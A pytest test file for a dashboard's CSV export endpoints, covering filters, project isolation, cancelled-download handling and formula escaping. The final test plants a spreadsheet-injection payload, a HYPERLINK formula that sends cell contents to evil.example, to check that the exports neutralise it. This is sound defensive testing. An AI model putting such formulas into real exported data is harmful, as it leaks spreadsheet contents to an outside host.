"""CSV downloads: every table's rows, with the table's filters, through the export code."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

import pytest
from starlette.testclient import TestClient

from tests.api.test_export_slots import ROWS, store_events
from tests.conftest import KeyMaker
from tests.dashboard.conftest import seed
from tests.walkaway import WAYS, WalkAway, walk_away
from threadline.store.engine import Database


@pytest.fixture
def seeded(signed_in: TestClient, api_key: str, make_key: KeyMaker) -> TestClient:
    seed(signed_in, api_key, "alpha")
    seed(signed_in, make_key("api", project="other"), "omega")
    return signed_in


def _rows(client: TestClient, path: str) -> list[dict[str, str]]:
    response = client.get(path)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="')
    assert response.headers["cache-control"] == "no-store"
    assert "omega" not in response.text
    return list(csv.DictReader(io.StringIO(response.text)))


def test_conversations_csv_follows_the_filters(seeded: TestClient) -> None:
    everything = _rows(seeded, "/dashboard/export/conversations.csv")
    assert {row["id"] for row in everything} == {"alpha-conv-0", "alpha-conv-1"}
    searched = _rows(seeded, "/dashboard/export/conversations.csv?q=install")
    assert [row["id"] for row in searched] == ["alpha-conv-0"]
    assert searched[0]["properties.plan"] == "pro"


def test_feedback_and_events_csv(seeded: TestClient) -> None:
    negative = _rows(seeded, "/dashboard/export/feedback.csv?type=negative")
    assert [row["details"] for row in negative] == ["alpha detail text"]
    shared = _rows(seeded, "/dashboard/export/events.csv?type=chat_shared")
    assert [row["properties.source"] for row in shared] == ["widget"]


def test_search_csvs(seeded: TestClient) -> None:
    top = _rows(seeded, "/dashboard/export/search-queries.csv")
    assert {row["searchQuery"]: row["count"] for row in top} == {
        "alpha install": "3",
        "alpha pricing": "1",
    }
    unclicked = _rows(seeded, "/dashboard/export/unclicked-searches.csv")
    assert [row["searchQuery"] for row in unclicked] == ["alpha pricing"]
    weeks = _rows(seeded, "/dashboard/export/search-users.csv")
    assert sum(int(row["count"]) for row in weeks) == 4


def test_an_unknown_table_is_a_friendly_404(signed_in: TestClient) -> None:
    response = signed_in.get("/dashboard/export/nope.csv")
    assert response.status_code == 404
    assert "No table named" in response.text


def test_event_types_csv_counts_the_periods_events_by_type(seeded: TestClient) -> None:
    rows = _rows(seeded, "/dashboard/export/event-types.csv?range=7d")
    counts = {row["type"]: row["count"] for row in rows}
    assert counts == {
        "search_query_submitted": "3",
        "message:copied": "1",
        "chat_shared": "1",
        "search_result_clicked": "1",
    }


@pytest.mark.parametrize("way", WAYS)
def test_cancelled_downloads_give_their_export_slot_back(
    signed_in: TestClient, db: Database, way: WalkAway
) -> None:
    store_events(db)
    cookie = "; ".join(f"{name}={value}" for name, value in signed_in.cookies.items())
    ctx = signed_in.app.state.services  # type: ignore[attr-defined]
    for _ in range(ctx.settings.max_concurrent_exports * 3):
        visit = walk_away(signed_in, way, "GET", "/dashboard/export/events.csv", {"cookie": cookie})
        assert visit.status == 200
        assert visit.headers["content-type"] == "text/csv; charset=utf-8"
        assert visit.body.count(b"\r\n") < ROWS, "the client left before the end"
    assert ctx.exports.running == 0
    assert len(_rows(signed_in, "/dashboard/export/events.csv")) == ROWS


def test_downloads_neutralise_formulas(seeded: TestClient, api_key: str) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    event = {
        "type": formula,
        "entityType": "message",
        "messageId": "m-x",
        "properties": {"n": formula},
    }
    headers = {"Authorization": f"Bearer {api_key}"}
    assert seeded.post("/events", json=event, headers=headers).status_code == 200
    rows = _rows(seeded, "/dashboard/export/events.csv?type=" + quote(formula))
    assert [(row["type"], row["properties.n"]) for row in rows] == [("'" + formula, "'" + formula)]
    counts = _rows(seeded, "/dashboard/export/event-types.csv")
    assert {"type": "'" + formula, "count": "1"} in counts
